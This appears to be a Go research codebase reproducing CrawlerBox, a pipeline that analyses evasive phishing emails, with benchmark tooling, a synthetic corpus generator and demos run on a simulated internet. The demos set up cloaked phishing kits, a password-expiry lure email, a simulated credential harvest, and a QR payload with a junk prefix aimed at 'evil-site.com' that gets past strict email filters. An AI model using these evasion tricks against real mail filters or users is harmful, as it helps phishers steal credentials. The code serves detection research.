