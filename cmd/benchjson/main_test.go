package main

import (
	"os"
	"path/filepath"
	"testing"
)

func TestParseLine(t *testing.T) {
	name, m, ok := parseLine("BenchmarkPerceptualHashing/pHash-8 \t 993\t  206316 ns/op\t   28208 B/op\t       6 allocs/op")
	if !ok {
		t.Fatal("line not recognized")
	}
	if name != "PerceptualHashing/pHash-8" {
		t.Errorf("name = %q", name)
	}
	for k, want := range map[string]float64{
		"ns_per_op": 206316, "bytes_per_op": 28208, "allocs_per_op": 6,
	} {
		if m[k] != want {
			t.Errorf("%s = %v, want %v", k, m[k], want)
		}
	}
}

func TestParseLineCustomMetric(t *testing.T) {
	name, m, ok := parseLine("BenchmarkPipelineThroughputParallel/workers-8 \t 5\t 240000000 ns/op\t 533.2 msgs/s")
	if !ok {
		t.Fatal("line not recognized")
	}
	if name != "PipelineThroughputParallel/workers-8" {
		t.Errorf("name = %q", name)
	}
	if m["msgs_per_s"] != 533.2 {
		t.Errorf("msgs_per_s = %v", m["msgs_per_s"])
	}
}

func TestParsePromLine(t *testing.T) {
	for _, tc := range []struct {
		line string
		key  string
		v    float64
		ok   bool
	}{
		{`webnet_requests_total{status="2xx"} 42`, `webnet_requests_total{status="2xx"}`, 42, true},
		{`obs_spans_total 123`, `obs_spans_total`, 123, true},
		{`crawlerbox_stage_ns_sum{stage="crawl"} 1.5e+08`, `crawlerbox_stage_ns_sum{stage="crawl"}`, 1.5e8, true},
		{`# TYPE obs_spans_total counter`, "", 0, false},
		{``, "", 0, false},
		{`not a metric line`, "", 0, false},
	} {
		key, v, ok := parsePromLine(tc.line)
		if key != tc.key || v != tc.v || ok != tc.ok {
			t.Errorf("parsePromLine(%q) = (%q, %v, %v), want (%q, %v, %v)",
				tc.line, key, v, ok, tc.key, tc.v, tc.ok)
		}
	}
}

func TestLoadMetrics(t *testing.T) {
	path := filepath.Join(t.TempDir(), "metrics.prom")
	dump := "# TYPE obs_spans_total counter\nobs_spans_total 40\n" +
		"# TYPE webnet_response_bytes_total counter\nwebnet_response_bytes_total 115\n"
	if err := os.WriteFile(path, []byte(dump), 0o644); err != nil {
		t.Fatal(err)
	}
	m, err := loadMetrics(path)
	if err != nil {
		t.Fatal(err)
	}
	if len(m) != 2 || m["obs_spans_total"] != 40 || m["webnet_response_bytes_total"] != 115 {
		t.Errorf("loadMetrics = %v", m)
	}
}

func TestParseLineRejectsNoise(t *testing.T) {
	for _, line := range []string{
		"goos: linux",
		"PASS",
		"ok  \tcrawlerbox\t2.5s",
		"BenchmarkBroken abc 1 ns/op",
		"--- BENCH: BenchmarkFoo",
	} {
		if _, _, ok := parseLine(line); ok {
			t.Errorf("line %q should not parse", line)
		}
	}
}
