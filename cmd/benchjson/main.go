// Command benchjson turns `go test -bench` output into a benchmark
// trajectory file. It reads benchmark result lines from stdin, echoes them
// to stdout unchanged (so it can sit at the end of a pipe without hiding
// the run), and writes per-benchmark summary statistics as JSON.
//
// With -count=N each benchmark contributes N samples; the JSON records
// mean/min/max per metric so later PRs can regress-check against the
// recorded trajectory (BENCH_<pr>.json files at the repository root).
//
// With -metrics FILE the report additionally embeds a Prometheus text dump
// (as produced by `crawlerbox -metrics` / `report -metrics`) as a flat
// name{labels} → value map, so trajectory files carry the observability
// counters (span counts, bytes observed, cloak verdicts) alongside the
// timing columns.
//
// Usage:
//
//	go test -run='^$' -bench=. -benchmem -count=5 . | benchjson -o BENCH_2.json
//	go test ... | benchjson -o BENCH_4.json -metrics metrics.prom
package main

import (
	"bufio"
	"encoding/json"
	"flag"
	"fmt"
	"os"
	"sort"
	"strconv"
	"strings"
)

// metricStat summarizes one metric's samples across -count repetitions.
type metricStat struct {
	Mean float64 `json:"mean"`
	Min  float64 `json:"min"`
	Max  float64 `json:"max"`
	N    int     `json:"n"`
}

// benchResult accumulates samples for one benchmark name.
type benchResult struct {
	name    string
	metrics map[string][]float64
}

// report is the emitted JSON document.
type report struct {
	Schema     string                            `json:"schema"`
	Goos       string                            `json:"goos,omitempty"`
	Goarch     string                            `json:"goarch,omitempty"`
	CPU        string                            `json:"cpu,omitempty"`
	Benchmarks map[string]map[string]*metricStat `json:"benchmarks"`
	// Metrics holds a flat name{labels} → value view of a Prometheus text
	// dump ingested via -metrics (scalar series and histogram _sum/_count
	// lines; # comments are skipped).
	Metrics map[string]float64 `json:"metrics,omitempty"`
}

// parsePromLine splits one Prometheus exposition line into its series key
// (name plus verbatim label block) and value. Comment and blank lines
// return ok=false.
func parsePromLine(line string) (string, float64, bool) {
	line = strings.TrimSpace(line)
	if line == "" || strings.HasPrefix(line, "#") {
		return "", 0, false
	}
	i := strings.LastIndexByte(line, ' ')
	if i < 0 {
		return "", 0, false
	}
	v, err := strconv.ParseFloat(line[i+1:], 64)
	if err != nil {
		return "", 0, false
	}
	return line[:i], v, true
}

// loadMetrics reads a Prometheus text dump into a flat key → value map.
func loadMetrics(path string) (map[string]float64, error) {
	data, err := os.ReadFile(path)
	if err != nil {
		return nil, err
	}
	out := map[string]float64{}
	for _, line := range strings.Split(string(data), "\n") {
		if key, v, ok := parsePromLine(line); ok {
			out[key] = v
		}
	}
	return out, nil
}

// mergeInto seeds rep with the benchmarks (and metrics, absent a fresh
// -metrics dump) of a previously written BENCH json, so a partial re-run —
// e.g. make bench-scale after make bench — augments the document instead of
// clobbering it. Benchmarks re-measured on stdin overwrite the carried
// entries; a missing file is not an error (first run).
func mergeInto(rep *report, path string) error {
	data, err := os.ReadFile(path)
	if os.IsNotExist(err) {
		return nil
	}
	if err != nil {
		return err
	}
	var old report
	if err := json.Unmarshal(data, &old); err != nil {
		return fmt.Errorf("%s: %w", path, err)
	}
	for name, stats := range old.Benchmarks {
		rep.Benchmarks[name] = stats
	}
	rep.Metrics = old.Metrics
	return nil
}

// metricKey maps a benchmark output unit to a stable JSON key.
func metricKey(unit string) string {
	switch unit {
	case "ns/op":
		return "ns_per_op"
	case "B/op":
		return "bytes_per_op"
	case "allocs/op":
		return "allocs_per_op"
	case "MB/s":
		return "mb_per_s"
	default:
		// Custom b.ReportMetric units, e.g. msgs/s.
		return strings.NewReplacer("/", "_per_", "-", "_").Replace(unit)
	}
}

// parseLine extracts (name, metric samples) from one benchmark output line:
//
//	BenchmarkFoo/bar-4   1234   56.7 ns/op   8 B/op   2 allocs/op
//
// The iteration count is discarded; every following "<value> <unit>" pair
// is a metric sample. Returns ok=false for non-benchmark lines.
func parseLine(line string) (string, map[string]float64, bool) {
	if !strings.HasPrefix(line, "Benchmark") {
		return "", nil, false
	}
	fields := strings.Fields(line)
	if len(fields) < 4 || len(fields)%2 != 0 {
		return "", nil, false
	}
	// The name is kept verbatim (minus the Benchmark prefix), including any
	// GOMAXPROCS suffix: stripping numeric suffixes would merge distinct
	// sub-benchmarks like workers-1 and workers-8 on single-CPU hosts.
	name := strings.TrimPrefix(fields[0], "Benchmark")
	if _, err := strconv.Atoi(fields[1]); err != nil {
		return "", nil, false
	}
	metrics := map[string]float64{}
	for i := 2; i+1 < len(fields); i += 2 {
		v, err := strconv.ParseFloat(fields[i], 64)
		if err != nil {
			return "", nil, false
		}
		metrics[metricKey(fields[i+1])] = v
	}
	return name, metrics, true
}

func main() {
	out := flag.String("o", "BENCH.json", "output JSON path")
	metricsPath := flag.String("metrics", "", "Prometheus text dump to embed in the report")
	mergePath := flag.String("merge", "", "existing BENCH json whose benchmarks carry over unless re-measured on stdin")
	flag.Parse()

	results := map[string]*benchResult{}
	var order []string
	rep := &report{Schema: "crawlerbox-bench/v1", Benchmarks: map[string]map[string]*metricStat{}}
	if *mergePath != "" {
		if err := mergeInto(rep, *mergePath); err != nil {
			fmt.Fprintln(os.Stderr, "benchjson: merge:", err)
			os.Exit(1)
		}
	}
	if *metricsPath != "" {
		m, err := loadMetrics(*metricsPath)
		if err != nil {
			fmt.Fprintln(os.Stderr, "benchjson: metrics:", err)
			os.Exit(1)
		}
		rep.Metrics = m
	}

	sc := bufio.NewScanner(os.Stdin)
	sc.Buffer(make([]byte, 1024*1024), 1024*1024)
	for sc.Scan() {
		line := sc.Text()
		fmt.Println(line)
		switch {
		case strings.HasPrefix(line, "goos: "):
			rep.Goos = strings.TrimPrefix(line, "goos: ")
		case strings.HasPrefix(line, "goarch: "):
			rep.Goarch = strings.TrimPrefix(line, "goarch: ")
		case strings.HasPrefix(line, "cpu: "):
			rep.CPU = strings.TrimPrefix(line, "cpu: ")
		}
		name, metrics, ok := parseLine(line)
		if !ok {
			continue
		}
		r := results[name]
		if r == nil {
			r = &benchResult{name: name, metrics: map[string][]float64{}}
			results[name] = r
			order = append(order, name)
		}
		for k, v := range metrics {
			r.metrics[k] = append(r.metrics[k], v)
		}
	}
	if err := sc.Err(); err != nil {
		fmt.Fprintln(os.Stderr, "benchjson: read:", err)
		os.Exit(1)
	}
	if len(order) == 0 {
		fmt.Fprintln(os.Stderr, "benchjson: no benchmark lines on stdin")
		os.Exit(1)
	}

	sort.Strings(order)
	for _, name := range order {
		r := results[name]
		stats := map[string]*metricStat{}
		for k, samples := range r.metrics {
			st := &metricStat{Min: samples[0], Max: samples[0], N: len(samples)}
			var sum float64
			for _, v := range samples {
				sum += v
				if v < st.Min {
					st.Min = v
				}
				if v > st.Max {
					st.Max = v
				}
			}
			st.Mean = sum / float64(len(samples))
			stats[k] = st
		}
		rep.Benchmarks[name] = stats
	}

	data, err := json.MarshalIndent(rep, "", "  ")
	if err != nil {
		fmt.Fprintln(os.Stderr, "benchjson: marshal:", err)
		os.Exit(1)
	}
	data = append(data, '\n')
	if err := os.WriteFile(*out, data, 0o644); err != nil {
		fmt.Fprintln(os.Stderr, "benchjson: write:", err)
		os.Exit(1)
	}
	fmt.Fprintf(os.Stderr, "benchjson: wrote %d benchmarks to %s (%d measured, %d carried over)\n",
		len(rep.Benchmarks), *out, len(order), len(rep.Benchmarks)-len(order))
}
