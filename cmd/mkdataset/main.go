// Command mkdataset generates the calibrated synthetic corpus and writes
// each message as an .eml file plus a tab-separated ground-truth manifest —
// the shareable stand-in for the study's proprietary dataset.
//
// Usage:
//
//	mkdataset -out DIR [-seed N] [-scale F]
package main

import (
	"flag"
	"fmt"
	"os"
	"path/filepath"

	"crawlerbox/internal/dataset"
)

func main() {
	if err := run(); err != nil {
		fmt.Fprintln(os.Stderr, "mkdataset:", err)
		os.Exit(1)
	}
}

func run() error {
	out := flag.String("out", "", "output directory (required)")
	seed := flag.Int64("seed", 42, "generation seed")
	scale := flag.Float64("scale", 0.1, "corpus scale (1.0 = 5,181 messages)")
	flag.Parse()
	if *out == "" {
		return fmt.Errorf("-out is required")
	}
	if err := os.MkdirAll(*out, 0o755); err != nil {
		return err
	}
	// Stream renders one message at a time straight to disk, so writing
	// even a full-scale corpus never holds more than one message in RAM.
	c, err := dataset.Stream(dataset.Config{Seed: *seed, Scale: *scale})
	if err != nil {
		return err
	}
	manifest, err := os.Create(filepath.Join(*out, "manifest.tsv"))
	if err != nil {
		return err
	}
	defer func() { _ = manifest.Close() }()
	fmt.Fprintln(manifest, "file\tdelivered\tcategory\tspear\tbrand\turl")
	var writeErr error
	c.Each(func(i int, m *dataset.Message) bool {
		name := fmt.Sprintf("msg-%05d.eml", i)
		if err := os.WriteFile(filepath.Join(*out, name), m.Raw, 0o644); err != nil {
			writeErr = err
			return false
		}
		fmt.Fprintf(manifest, "%s\t%s\t%s\t%v\t%s\t%s\n",
			name, m.Delivered.Format("2006-01-02T15:04:05Z"),
			m.Category, m.Spear, m.Brand, m.URL)
		return true
	})
	if writeErr != nil {
		return writeErr
	}
	fmt.Printf("wrote %d messages and manifest.tsv to %s\n", c.Len(), *out)
	return nil
}
