// spearphish demonstrates the screenshot-triage classifier: the pipeline
// signs the five protected brands' legitimate login pages with perceptual
// hashes (pHash + dHash), then classifies crawled pages against them — a
// faithful clone matches, the hue-rotate(4deg) evasion fails to break the
// match, and an unrelated brand does not match.
package main

import (
	"context"

	"fmt"
	"os"
	"time"

	"crawlerbox/internal/browser"
	"crawlerbox/internal/imaging"
	"crawlerbox/internal/phishkit"
	"crawlerbox/internal/webnet"
)

func main() {
	if err := run(); err != nil {
		fmt.Fprintln(os.Stderr, "spearphish:", err)
		os.Exit(1)
	}
}

func run() error {
	net := webnet.NewInternet(webnet.NewClock(time.Date(2024, 6, 1, 9, 0, 0, 0, time.UTC)))

	// Sign the legitimate login pages.
	matcher := imaging.DefaultMatcher()
	refs := map[string]imaging.Signature{}
	seed := int64(1)
	for _, b := range phishkit.StudyBrands {
		url := phishkit.DeployBrandSite(net, b)
		br := browser.New(net, browser.NotABot(), net.AllocateIP(webnet.IPMobile), seed)
		seed++
		res, err := br.Visit(context.Background(), url)
		if err != nil {
			return err
		}
		refs[b.Name] = imaging.Sign(res.Screenshot)
	}
	fmt.Printf("=== Spear-phishing screenshot triage (%d reference pages) ===\n\n", len(refs))

	// Candidate pages to classify.
	candidates := []struct {
		label string
		cfg   phishkit.SiteConfig
	}{
		{"faithful ACME clone", phishkit.SiteConfig{
			Host: "acme-sso.buzz", Brand: phishkit.BrandAcmeTravelTech}},
		{"hue-rotated SkyBooker clone", phishkit.SiteConfig{
			Host: "skybooker-verify.dev", Brand: phishkit.BrandSkyBooker, HueRotateDeg: 4}},
		{"generic Microsoft page", phishkit.SiteConfig{
			Host: "office-secure.click", Brand: phishkit.BrandMicrosoft}},
	}
	for _, cand := range candidates {
		site := phishkit.Deploy(net, cand.cfg)
		br := browser.New(net, browser.NotABot(), net.AllocateIP(webnet.IPMobile), seed)
		seed++
		res, err := br.Visit(context.Background(), site.LandingURL)
		if err != nil {
			return err
		}
		sig := imaging.Sign(res.Screenshot)
		matched := ""
		var bestP, bestD int
		for brand, ref := range refs {
			if ok, dp, dd := matcher.Match(sig, ref); ok {
				matched = brand
				bestP, bestD = dp, dd
				break
			}
		}
		if matched != "" {
			fmt.Printf("%-28s -> SPEAR PHISH impersonating %s (pHash dist %d, dHash dist %d)\n",
				cand.label, matched, bestP, bestD)
		} else {
			fmt.Printf("%-28s -> no protected brand matched (non-targeted)\n", cand.label)
		}
	}
	fmt.Println()
	fmt.Println("Both fuzzy hashes operate on grayscale structure, so the")
	fmt.Println("hue-rotate(4deg) perturbation found on 167 pages in the corpus")
	fmt.Println("does not defeat the classifier — the paper's exact argument.")
	return nil
}
