// qrevasion demonstrates the faulty-QR filter bug discovered by the paper
// (Section V-C1): a QR code whose payload carries junk before the URL
// ("xxx https://evil-site.com/") defeats email filters that validate the
// whole decoded payload as a URL, while phone cameras happily extract and
// open the link.
package main

import (
	"fmt"
	"os"

	"crawlerbox/internal/qrcode"
	"crawlerbox/internal/urlx"
)

func main() {
	if err := run(); err != nil {
		fmt.Fprintln(os.Stderr, "qrevasion:", err)
		os.Exit(1)
	}
}

func run() error {
	payloads := []string{
		"https://evil-site.com/dhfYWfH",     // a normal malicious QR
		"xxx https://evil-site.com/dhfYWfH", // the faulty variant
		"[https://evil-site.com/dhfYWfH",    // the bracket variant
	}
	fmt.Println("=== Faulty QR code filter evasion ===")
	fmt.Println()
	for _, payload := range payloads {
		// The attacker encodes the payload...
		m, err := qrcode.Encode(payload, qrcode.ECMedium)
		if err != nil {
			return err
		}
		img, err := qrcode.Render(m, 4, 4)
		if err != nil {
			return err
		}
		// ...the email filter decodes the image and validates strictly...
		dec, err := qrcode.DecodeImage(img)
		if err != nil {
			return err
		}
		filterURL, filterOK := urlx.ExtractStrictWhole(dec.Payload)
		// ...the victim's phone camera extracts leniently.
		phone := urlx.ExtractLenient(dec.Payload)

		fmt.Printf("QR payload: %q (version %d)\n", payload, m.Version)
		if filterOK {
			fmt.Printf("  email filter:  extracted %q  -> link gets scanned\n", filterURL)
		} else {
			fmt.Printf("  email filter:  NO URL FOUND     -> message classified benign\n")
		}
		if len(phone) > 0 {
			fmt.Printf("  phone camera:  opens %q (junk prefix: %v)\n",
				phone[0].URL, phone[0].JunkPrefix)
		}
		evaded := !filterOK && len(phone) > 0
		fmt.Printf("  filter evaded: %v\n\n", evaded)
	}
	fmt.Println("The mismatch between strict filter parsing and lenient mobile")
	fmt.Println("extraction leaves users exposed: the filter sees nothing, the")
	fmt.Println("phone opens the phishing page over the mobile network, outside")
	fmt.Println("the corporate security perimeter.")
	return nil
}
