// cloakedsite deploys a phishing site behind the full evasion stack —
// Turnstile challenge, tokenized URL, console hijack, hue-rotation — and
// crawls it with three stacks from the paper's Table I: a curl-style
// fetcher, Puppeteer+stealth, and NotABot. Only NotABot reaches the
// credential form.
package main

import (
	"context"
	"fmt"
	"os"
	"time"

	"crawlerbox/internal/botdetect"
	"crawlerbox/internal/crawler"
	"crawlerbox/internal/htmlx"
	"crawlerbox/internal/phishkit"
	"crawlerbox/internal/webnet"
)

func main() {
	if err := run(); err != nil {
		fmt.Fprintln(os.Stderr, "cloakedsite:", err)
		os.Exit(1)
	}
}

func run() error {
	net := webnet.NewInternet(webnet.NewClock(time.Date(2024, 5, 1, 9, 0, 0, 0, time.UTC)))
	ts := botdetect.NewTurnstile(net, "turnstile.example")
	site := phishkit.Deploy(net, phishkit.SiteConfig{
		Host:          "onedrive-share-docs.click",
		Brand:         phishkit.BrandOneDrive,
		Turnstile:     ts,
		Tokens:        []string{"dhfYWfH"},
		ConsoleHijack: true,
		HueRotateDeg:  4,
	})
	fmt.Println("=== Cloaked phishing site vs the crawler fleet ===")
	fmt.Println("landing URL:", site.LandingURL)
	fmt.Println()

	// 1. A curl-style scanner: no JavaScript at all.
	resp, err := net.Do(context.Background(), &webnet.Request{
		Method: "GET", Host: "onedrive-share-docs.click", Path: "/login",
		RawQuery: "t=dhfYWfH",
		Headers:  map[string]string{"User-Agent": "curl/8.5", "Accept-Language": "en"},
		ClientIP: net.AllocateIP(webnet.IPDatacenter), TLSFingerprint: "771,curl",
	})
	if err != nil {
		return err
	}
	fmt.Printf("curl-style fetcher:   status %d, page shows challenge, no JS -> stuck\n", resp.Status)

	// 2. Puppeteer + stealth plugin (headless).
	stealth := crawler.NewHeadless(crawler.PuppeteerStealth, net, webnet.IPMobile, 1, true)
	res, err := stealth.Visit(context.Background(), site.LandingURL)
	if err != nil {
		return err
	}
	fmt.Printf("puppeteer+stealth:    reached %q, password form: %v\n",
		res.FinalURL, htmlx.HasPasswordInput(res.DOM))

	// 3. NotABot.
	notabot := crawler.New(crawler.NotABot, net, webnet.IPMobile, 2)
	res, err = notabot.Visit(context.Background(), site.LandingURL)
	if err != nil {
		return err
	}
	fmt.Printf("NotABot:              reached %q, password form: %v\n",
		res.FinalURL, htmlx.HasPasswordInput(res.DOM))
	fmt.Printf("                      scripts executed: %d, console hijacked (no output): %v\n",
		len(res.Scripts), len(res.Console) == 0)
	fmt.Println()
	fmt.Println("Only a crawler whose fingerprint is indistinguishable from a")
	fmt.Println("human-operated browser sees the credential form — the premise")
	fmt.Println("of the paper's NotABot design.")
	return nil
}
