// Quickstart: build a simulated world, deploy a cloaked spear-phishing
// site, compose the lure email, and run one message through the full
// CrawlerBox pipeline.
package main

import (
	"context"
	"fmt"
	"os"
	"time"

	crawlerboxgo "crawlerbox"
	"crawlerbox/internal/mime"
	"crawlerbox/internal/phishkit"
	"crawlerbox/internal/webnet"
	"crawlerbox/internal/whois"
)

func main() {
	if err := run(); err != nil {
		fmt.Fprintln(os.Stderr, "quickstart:", err)
		os.Exit(1)
	}
}

func run() error {
	start := time.Date(2024, 3, 1, 8, 0, 0, 0, time.UTC)
	world := crawlerboxgo.NewWorld(start)

	// The attacker registered the landing domain 30 days ago (past the
	// "new domain" reputation window is their goal) and deploys a clone of
	// the ACME TravelTech login page behind the Turnstile-style challenge.
	site := phishkit.Deploy(world.Net, phishkit.SiteConfig{
		Host:               "acmetraveltech-sso.buzz",
		Brand:              phishkit.BrandAcmeTravelTech,
		Turnstile:          world.Turnstile,
		HotLoadBrandAssets: true,
		ConsoleHijack:      true,
	})
	world.Registry.Register(whois.Record{
		Domain:     "acmetraveltech-sso.buzz",
		Registrar:  "REGRU-RU",
		Registered: start.Add(-30 * 24 * time.Hour),
		Provenance: whois.ProvenanceFresh,
	})
	world.Net.IssueCert("acmetraveltech-sso.buzz", "LetsEncrypt", start.Add(-8*24*time.Hour))

	// The lure, as a real RFC-5322 message.
	raw := mime.NewBuilder("it-support@notices-mail.ru", "employee@corp.example",
		"Action required: password expiry", start).
		Text("Your password expires today. Renew it immediately: " + site.LandingURL).
		Build()

	// Analyze it.
	pipe, err := world.NewPipeline(context.Background())
	if err != nil {
		return err
	}
	world.Net.Clock.Advance(2 * time.Hour) // analysis happens after delivery
	ma, err := pipe.AnalyzeMessage(raw)
	if err != nil {
		return err
	}

	fmt.Println("=== CrawlerBox quickstart ===")
	fmt.Println("subject:      ", ma.Parse.Subject)
	fmt.Println("auth (SPF/DKIM/DMARC) passed:", ma.Parse.Auth.PassesAuth())
	fmt.Println("extracted URLs:", len(ma.Parse.URLs))
	fmt.Println("outcome:      ", ma.Outcome)
	fmt.Println("spear phish:  ", ma.SpearPhish, "brand:", ma.Brand)
	if ma.Landing != nil {
		fmt.Println("landing host: ", ma.Landing.Host)
		fmt.Println("landing TLD:  ", ma.Landing.TLD)
		if ma.Landing.Whois != nil {
			age := ma.AnalyzedAt.Sub(ma.Landing.Whois.Registered).Hours() / 24
			fmt.Printf("domain age:    %.0f days (registrar %s)\n", age, ma.Landing.Whois.Registrar)
		}
	}
	fmt.Printf("cloaks:        turnstile=%v consoleHijack=%v\n",
		ma.Cloaks.Turnstile, ma.Cloaks.ConsoleHijack)
	// Finally, the part CrawlerBox exists to prevent: a victim who clicks
	// through and submits credentials.
	_, err = world.Net.Do(context.Background(), &webnet.Request{
		Method: "POST", Host: "acmetraveltech-sso.buzz", Path: "/session",
		Body:     "email=employee%40corp.example&password=Correct.Horse.7",
		Headers:  map[string]string{"User-Agent": "Mozilla/5.0"},
		ClientIP: world.Net.AllocateIP(webnet.IPResidential),
	})
	if err != nil {
		return err
	}
	fmt.Println("credentials harvested by the kit:", len(site.Harvested))
	return nil
}
