// Package crawlerboxgo is the public facade of the CrawlerBox
// reproduction — a from-scratch Go implementation of the analysis
// infrastructure and experiments from "A Closer Look At Modern Evasive
// Phishing Emails" (DSN 2025).
//
// The facade wires the three things a downstream user needs:
//
//   - World: a simulated internet (virtual clock, DNS with a passive-DNS
//     ledger, TLS/CT log, HTTP), a WHOIS registry, the bot-detection
//     services (Turnstile-style challenge, reCAPTCHA-style scorer, BotD),
//     and the five protected brands' legitimate login sites.
//   - Pipeline: the CrawlerBox analysis pipeline — recursive MIME parsing
//     with QR/OCR/PDF/ZIP extraction, evasive crawling with the NotABot
//     browser profile, screenshot classification by perceptual hashing,
//     cloaking census, and WHOIS/certificate/passive-DNS enrichment.
//   - The Table I crawler assessment harness.
//
// Deeper control lives in the internal packages; this package exposes the
// workflows the paper's evaluation runs end to end.
package crawlerboxgo

import (
	"context"
	"fmt"
	"time"

	"crawlerbox/internal/botdetect"
	"crawlerbox/internal/browser"
	"crawlerbox/internal/crawler"
	"crawlerbox/internal/crawlerbox"
	"crawlerbox/internal/dataset"
	"crawlerbox/internal/phishkit"
	"crawlerbox/internal/report"
	"crawlerbox/internal/webnet"
	"crawlerbox/internal/whois"
)

// World bundles a simulated internet with the services and brand sites the
// pipeline expects.
type World struct {
	Net       *webnet.Internet
	Registry  *whois.Registry
	Turnstile *botdetect.Turnstile
	ReCaptcha *botdetect.ReCaptchaV3
	BotD      *botdetect.BotD
	// BrandLoginURLs maps each protected brand name to its legitimate
	// login URL.
	BrandLoginURLs map[string]string
}

// NewWorld builds a fresh simulated world starting at the given time.
func NewWorld(start time.Time) *World {
	net := webnet.NewInternet(webnet.NewClock(start))
	w := &World{
		Net:            net,
		Registry:       whois.NewRegistry(),
		Turnstile:      botdetect.NewTurnstile(net, "turnstile.example"),
		ReCaptcha:      botdetect.NewReCaptchaV3(net, "recaptcha.example"),
		BotD:           botdetect.NewBotD(net, "botd.example"),
		BrandLoginURLs: map[string]string{},
	}
	for _, b := range phishkit.StudyBrands {
		w.BrandLoginURLs[b.Name] = phishkit.DeployBrandSite(net, b)
	}
	return w
}

// NewPipeline returns a CrawlerBox pipeline for the world, with references
// to every protected brand's login page already registered. The context
// bounds the reference crawls.
func (w *World) NewPipeline(ctx context.Context) (*crawlerbox.Pipeline, error) {
	pipe := crawlerbox.New(w.Net, w.Registry)
	for _, b := range phishkit.StudyBrands {
		if err := pipe.AddReference(ctx, b.Name, w.BrandLoginURLs[b.Name]); err != nil {
			return nil, fmt.Errorf("crawlerbox: registering reference %s: %w", b.Name, err)
		}
	}
	return pipe, nil
}

// NotABotBrowser returns a fresh NotABot crawler on a mobile egress IP.
func (w *World) NotABotBrowser(seed int64) *browser.Browser {
	return browser.New(w.Net, browser.NotABot(), w.Net.AllocateIP(webnet.IPMobile), seed)
}

// GenerateCorpus builds the calibrated synthetic ten-month corpus
// (scale 1.0 reproduces the paper's 5,181 messages).
func GenerateCorpus(seed int64, scale float64) (*dataset.Corpus, error) {
	return dataset.Generate(dataset.Config{Seed: seed, Scale: scale})
}

// AnalyzeCorpus runs the full pipeline over a corpus serially and returns
// the aggregated run (tables, figures, censuses).
func AnalyzeCorpus(c *dataset.Corpus) (*report.Run, error) {
	//cblint:ignore ctxflow AnalyzeCorpus is the documented no-cancellation serial entry point
	return report.Analyze(context.Background(), c)
}

// AnalyzeCorpusParallel is AnalyzeCorpus with a bounded worker pool and
// cancellation. The aggregated run is bitwise identical for any worker
// count (see the pipeline's determinism guarantee in DESIGN.md).
func AnalyzeCorpusParallel(ctx context.Context, c *dataset.Corpus, workers int) (*report.Run, error) {
	return report.Analyze(ctx, c, report.WithWorkers(workers))
}

// RunTable1 reproduces the Table I crawler-vs-detector assessment.
func RunTable1(ctx context.Context) (*crawler.Assessment, error) {
	return crawler.RunAssessment(ctx)
}
